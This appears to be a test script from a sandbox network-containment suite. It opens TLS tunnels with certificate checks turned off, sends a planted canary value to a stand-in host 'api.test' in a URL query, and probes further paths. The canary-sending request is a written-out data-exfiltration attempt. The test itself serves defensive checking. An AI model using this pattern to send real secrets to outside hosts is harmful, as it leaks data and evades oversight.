# Opens tunnels, sends what is in a planted file elsewhere, and goes on in the tunnels.
# network: held
import contextlib
import time

from prelude import TOLD, attempt, canary, get, rest, say, tls

with contextlib.ExitStack() as stack:
    tunnels = [
        stack.enter_context(tls(f"{host}:{TOLD['TLS']}", host, verify=False)) for host in ("api.test", "opened.test")
    ]
    print(say(get(f"http://api.test:{TOLD['WEB']}/?a={canary().decode()}"))[:100])
    for one, path in zip(tunnels, ("/astray", "/open/astray"), strict=True):
        with attempt():
            host = "opened.test" if "open" in path else "api.test"
            one.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}:{TOLD['TLS']}\r\nConnection: close\r\n\r\n".encode())
            print(rest(one)[:100])
    time.sleep(0.2)
print("tried")
